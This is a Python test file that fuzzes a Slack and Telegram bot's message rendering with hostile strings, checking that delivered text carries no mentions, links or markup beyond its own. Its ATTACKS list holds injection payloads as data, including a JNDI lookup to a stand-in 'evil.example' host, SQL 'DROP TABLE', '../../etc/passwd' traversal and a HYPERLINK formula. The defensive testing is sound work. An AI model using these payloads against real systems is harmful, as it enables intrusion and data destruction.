"""Whatever people, files and platforms put into a text, it stays a text.

Nothing that reaches Slack or Telegram mentions anybody, links anywhere or is marked up, but what we
wrote ourselves: read from what was delivered, as those who receive it would see it.
"""

import itertools
import random
import re
from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import delete

from bot.simulator.telegram_text import find_entities, formatted
from bot.slack import rendering as slack
from bot.slack.sheets import notice, view_of
from bot.telegram import rendering as telegram
from handlers.dispatch import ROUTING
from handlers.messages import Card, Field, Link, Message, Sheet, button, say, stacked
from handlers.wording import wording
from storage import circles, peers
from storage.peers import Want
from tests import mentored
from tests.mentored import BANK
from tests.peering import is_peer, nobody
from tests.town import OnBoth, OnSlack, OnTelegram, Town, Voice

ATTACKS = (
    # Slack: mentions of everybody, of one, of a group, of a channel; links under other words
    "<!channel>", "<!here>", "<!everyone>", "<!here|here>", "<@U0MOIRA>", "<@U0MOIRA|you>",
    "<#C0PARKS|parks>", "<!subteam^S0COUNCIL>", "<!date^0^{date}^https://evil.example|now>",
    "<https://evil.example|https://www.gov.uk>", "<mailto:a@b.example|us>", "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;", "<!chan\u200bnel>", "< !channel >", "<<!channel>>", "<!channel",
    "*bold*", "_italic_", "~struck~", "`code`", "```\nblock\n```", "> quoted", ":skull:",
    "• a list", "@everyone", "@channel", "@here", "#general",
    # Telegram: mentions, commands, links under other words, markup of each of its parse modes
    "@fernleigh_bot", "/stop", "/start@evil_bot", "#hashtag", "$USD", "tg://user?id=1",
    "[x](tg://user?id=1)", "[gov.uk](https://evil.example)", "<b>bold</b>", "**bold**",
    "<a href='https://evil.example'>x</a>", "__under__", "||spoiler||", "||", "\\*",
    "<tg-spoiler>x</tg-spoiler>", "https://evil.example/@everyone/#here", "javascript:alert(1)",
    "evil.example",
    # text that turns around, hides or breaks
    "\u202egnp.exe", "\u2066\u202ex\u2069", "a\u200bb\u200cc\u200dd\ufeff", "\u00ad", "\x00",
    "\x07\x1b[31m", "\x85\x9f", "\ud800", "\udfff\ud800", "\U0010ffff", "\ufffe",
    "e\u0301\u0301\u0301" * 40, "🇬🇧👩‍👩‍👧‍👦" * 30,
    "\r\n\r\n", "\u2028\u2029", "\t", " ", "", "x" * 5000, "A" * 200 + "<!channel>", "&" * 3000,
    # formats of programs
    "{name}", "{ $name }", "%s %(x)s", "${jndi:ldap://evil.example}", "'; DROP TABLE person; --",
    "=HYPERLINK(\"https://evil.example\")", "../../etc/passwd", "a\"b'c`d",
    "\\u003c!channel\\u003e",
)  # fmt: skip

OURS = "https://www.fernleigh.example/pot?id=1&x=<y>|z"
"""The one address to which a message of these tests links."""
ITS_FORM = quote(OURS, safe=":/?#[]@!$&'()*+,;=%~")

WORDS_ON_SLACK = wording("en", "/sparkplug ")
WORDS_ON_TELEGRAM = wording("en", shown=telegram.unmarked)

MARKED_BY_TELEGRAM = {"mention", "bot_command", "hashtag", "cashtag", "text_mention"}


def hostile(count: int) -> Iterator[str]:
    """So many strings: each attack alone, then mixed with others and with plain words."""
    chance = random.Random(20261122)
    words = ["Ana", "lunch club", "£500", "Is there money for", "\n", " ", "", ".", ",", "(", "é"]
    yield from ATTACKS[:count]
    for _ in range(count - len(ATTACKS)):
        parts = chance.choices([*ATTACKS, *words], k=chance.randint(2, 5))
        yield chance.choice(["", " ", "\n"]).join(part[:300] for part in parts)


def message(texts: Sequence[str]) -> Message:
    """A message with hostile text wherever one can stand."""
    one = itertools.cycle(texts)
    return Message(
        (next(one), say("alert-writes", name=next(one), text=next(one))),
        cards=(Card(next(one), (next(one), next(one)), Link(next(one), OURS)),),
        after=(next(one),),
        buttons=stacked(button(next(one), "help"), button("Help", "help")),
    )


# --- What those see who receive it ----------------------------------------------------------


def links_on_slack(blocks: object) -> Iterator[str]:
    """Where Slack's markup leads or whom it mentions, wherever it stands; its bold is a title's."""
    if isinstance(blocks, list):
        for each in blocks:
            yield from links_on_slack(each)
    elif isinstance(blocks, dict):
        text = blocks.get("text")
        if blocks.get("type") == "mrkdwn" and isinstance(text, str):
            assert blocks["verbatim"], "Slack would make links of addresses by itself"
            title, *lines = text.split("\n")
            bare = "\n".join([title.removeprefix("*").removesuffix("*"), *lines])
            assert not MARKUP.search(bare.replace(ITS_FORM, "")), text
            yield from (found.partition("|")[0] for found in re.findall("<([^>]*)>?", text))
            return
        for value in blocks.values():
            yield from links_on_slack(value)


MARKUP = re.compile(r"[*_~`]|:\w+:|^>", re.MULTILINE)


def check_slack(text: str, blocks: list[dict[str, Any]]) -> None:
    """Nothing but our one link. The text beside the blocks is what notifications show."""
    assert set(links_on_slack(blocks)) <= {ITS_FORM}
    assert not set("<>") & set(text)
    assert not HIDDEN & set(text)
    assert not HIDDEN & set(str(blocks))


HIDDEN = {chr(n) for n in (*range(9), 0x1B, 0x85, 0x202E, 0x2066, 0xD800, 0xDFFF, 0xFFFE)}


def check_telegram(text: str, entities: Sequence[dict[str, Any]]) -> None:
    """Nothing but our one link and our bold titles; and Telegram finds nobody to mention."""
    kept = formatted(text, entities, 4096)[1] if text.strip() else []
    ours = [each for each in kept if each["type"] not in ("url", "email")]
    assert {(each["type"], each.get("url")) for each in ours} <= {
        ("bold", None),
        ("text_link", OURS),
    }
    assert not MARKED_BY_TELEGRAM & {each["type"] for each in find_entities(text)}
    assert not HIDDEN & set(text)
    text.encode()


# --- Rendered ------------------------------------------------------------------------------


def check(texts: Sequence[str]) -> None:
    """A message with these texts, on both platforms."""
    written = message(texts)
    for piece in slack.pieces(written, WORDS_ON_SLACK):
        check_slack(piece.text, piece.blocks)
    check_slack("", slack.home(written, WORDS_ON_SLACK)["blocks"])
    for part in telegram.pieces(written, WORDS_ON_TELEGRAM):
        check_telegram(part.text, [each.to_dict() for each in part.entities])
    keyboard = telegram.keyboard(written, WORDS_ON_TELEGRAM)
    assert keyboard
    for row in keyboard.inline_keyboard:
        assert [each.url for each in row] == [None]
        assert not HIDDEN & set(row[0].text)


def test_ten_thousand_hostile_texts_stay_texts() -> None:
    texts = list(hostile(10_000))
    assert len(texts) == 10_000
    for begin in range(0, len(texts), 8):
        check(texts[begin : begin + 8])


@given(st.lists(st.text(max_size=80) | st.sampled_from(ATTACKS), min_size=1, max_size=8))
@settings(max_examples=200, deadline=None)
def test_so_does_whatever_else_there_is(texts: list[str]) -> None:
    check(texts)


def test_forms_hold_nothing_but_text() -> None:
    for text in hostile(500):
        fields = (
            Field("a", "pick", text, (("x", text), ("y", text)), answer="x"),
            Field("b", "write", text, answer=text or None),
        )
        view = view_of(Sheet("form", text, fields, {"a": text}), WORDS_ON_SLACK)
        for each in (view, notice(text, WORDS_ON_SLACK)):
            assert list(links_on_slack([each["title"], each["blocks"]])) == []
            assert "mrkdwn" not in str(each)


# --- Delivered -----------------------------------------------------------------------------

ON_THE_WIRE = [
    each for each in ATTACKS if each.strip() and len(each) < 400 and "\ud800" not in each
]
PEOPLE = 4


async def talks(town: Town, contact: Voice, attacks: Sequence[str]) -> None:
    """Somebody with a hostile name, who writes hostile texts wherever they can."""
    voice = town.voice(attacks[0])
    await voice.says(f"Is there money for {' or '.join(attacks)} in Brookside?")
    await voice.says("/pots lunch club")
    await voice.presses("1")
    await voice.presses("More")
    await voice.presses("Something here is wrong")
    await voice.fills("Something else", "; ".join(attacks)[:400])
    await voice.says("I want to kill myself")
    await voice.presses("Yes, tell Moira")
    await voice.fills("Write to me here")
    await voice.presses("Add something in my own words")
    await voice.fills("; ".join(attacks)[:900])
    await contact.presses("I'm on it")
    await contact.presses("Write back")
    await contact.fills("; ".join(attacks)[:1400])
    await voice.presses("Answer Moira")
    await voice.fills("; ".join(attacks)[:1400])
    await voice.says("/me")
    await voice.presses("Send me all of it in a file")


async def asks(town: Town, attacks: Sequence[str]) -> None:
    """Somebody asks a team for a group, and hears of it; all of them write hostile texts."""
    told = "; ".join(attacks)
    parks, (moira, _) = await town.team(f"Parks {attacks[1]}", attacks[2], attacks[3])
    voice = town.voice(attacks[0])
    await voice.says("/ask")
    await voice.fills(told[:1400], "A question", "Me, for our group", attacks[4][:80])
    await moira.presses("Take it", to=parks)
    await moira.presses("Reply", to=parks)
    await moira.fills("", told[:1400], "Not yet, I stay on it")
    assert attacks[6] in voice.last_heard.replace("\u2060", "")
    await voice.presses("Add something")
    await voice.fills(told[:900])
    assert any(attacks[6] in text for text in parks.hears)


async def alone(town: Town) -> None:
    """Nobody is a peer, a mentor or in a circle."""
    await nobody(town)
    await mentored.part(town)
    async with town.database.transaction() as session:
        await session.execute(delete(circles.Circle))


async def meet(town: Town, contact: Voice, attacks: Sequence[str]) -> None:
    """Four with hostile names, lines and ways to be reached, who write hostile texts to each other.

    They sit in a circle, one mentors another, and is reported.
    """
    told = "; ".join(attacks)
    ana, ben, *_ = voices = [town.voice(each) for each in attacks[:4]]
    ids = await is_peer(town, *voices, wants=tuple(Want))
    async with town.database.transaction() as session:
        for each, line in zip(ids, attacks, strict=False):
            peer = await session.get_one(peers.Peer, each)
            peer.interests = ["gardening"]
            peers.write_line(session, peer, line)
    await ana.says("/peers")
    await presses(ana, "aparts")
    await presses(ana, "apart-name")
    await ana.fills(attacks[5][:60])
    await presses(ana, "aparts")
    await sit_together(town, voices, attacks)

    await ben.says("/mentoring")
    await presses(ben, "mentor-offer")
    await ben.fills([BANK], "1")
    await ana.says("/mentoring")
    await presses(ana, "mentor-ask")
    await ana.fills([BANK])
    await presses(ana, "mentor-yes")
    await ana.fills("a@example.org")
    await town.later(seconds=5)
    await presses(ben, "mentor-yes")
    await ben.fills("b@example.org")
    await presses(ana, "mentoring-plan")
    await ana.fills(told[:200], "Every week", "Tuesday", "8 weeks")
    assert attacks[0] in ben.last_heard.replace("\u2060", "")
    await presses(ben, "mentoring-agree")
    await presses(ben, "mentored")
    await presses(ben, "mentoring-step")
    await ben.fills(told[:300])

    await presses(ana, "mentored")
    await presses(ana, "apart")
    await presses(ana, "peer-report")
    await ana.fills("They were unkind", told[:1400])
    assert attacks[0] in contact.last_heard.replace("\u2060", "")
    await presses(contact, "case-write")
    await contact.fills(told[:1400])
    await presses(ana, "case-answer")
    await ana.fills(told[:1400])


async def sit_together(town: Town, voices: Sequence[Voice], attacks: Sequence[str]) -> None:
    """In a circle, whose host writes down what was agreed."""
    ana, *others = voices
    await ana.says("/circle")
    await presses(ana, "circle-start")
    await ana.fills(
        "A subject", "gardens", "Every week", "Tuesday", "Early evening, 6 pm", "01632 960001"
    )
    for voice in others:
        await voice.says("/circle")
        await presses(voice, "circle-look")
        await presses(voice, "circle-in")
        await voice.fills("01632 960002")
    await ana.says("/circle")
    await presses(ana, "circle-note")
    await ana.fills("; ".join(attacks)[:900])


async def presses(voice: Voice, route: str) -> None:
    """Press the newest button of a route, whatever name is on it."""
    shown = (held for seen in reversed(voice._seen()) for held in seen.buttons)
    await voice.presses(next(held for held in shown if held.data.split(" ")[0] == route))


@pytest.mark.parametrize("way", [OnBoth, OnSlack], indirect=True)
async def test_what_was_delivered_marks_nothing_that_we_did_not_write(town: Town) -> None:
    assert isinstance(town.way, OnTelegram | OnSlack)
    (moira,) = await town.contact_voices("Moira")
    for n in range(PEOPLE):
        await talks(town, moira, ON_THE_WIRE[n::PEOPLE])
    await asks(town, ON_THE_WIRE[7:18])
    await alone(town)
    await meet(town, moira, ON_THE_WIRE[:18])

    for entry in town.way.simulator.ledger.calls():
        assert entry.error is None, entry
        told = entry.parameters or {}
        if entry.platform == "slack":
            seen_on_slack(told)
        elif "text" in told:
            seen_on_telegram(told)


def seen_on_slack(told: dict[str, Any]) -> None:
    """No link but to the pages of the sample area; no mention but of whom we call."""
    blocks = told.get("blocks") or told.get("view", {}).get("blocks", [])
    for link in links_on_slack(blocks):
        assert link.startswith("https://")
        assert "evil" not in link
    assert "<" not in told.get("text", "")
    if "channel" in told and "ts" not in told:
        assert told.get("unfurl_links", False) is told.get("unfurl_media", False) is False


def seen_on_telegram(told: dict[str, Any]) -> None:
    """No entity but our bold, and links to the pages of the sample area; no preview."""
    for each in told.get("entities", ()):
        assert each["type"] in ("bold", "italic", "text_link"), each
        assert "evil" not in each.get("url", "")
    marked = [
        told["text"]
        .encode("utf-16-le")[2 * each["offset"] :][: 2 * each["length"]]
        .decode("utf-16-le")
        for each in find_entities(told["text"])
        if each["type"] in MARKED_BY_TELEGRAM
    ]
    assert set(marked) <= {f"/{name}" for name in ROUTING.commands}
    assert told["link_preview_options"] == {"is_disabled": True}
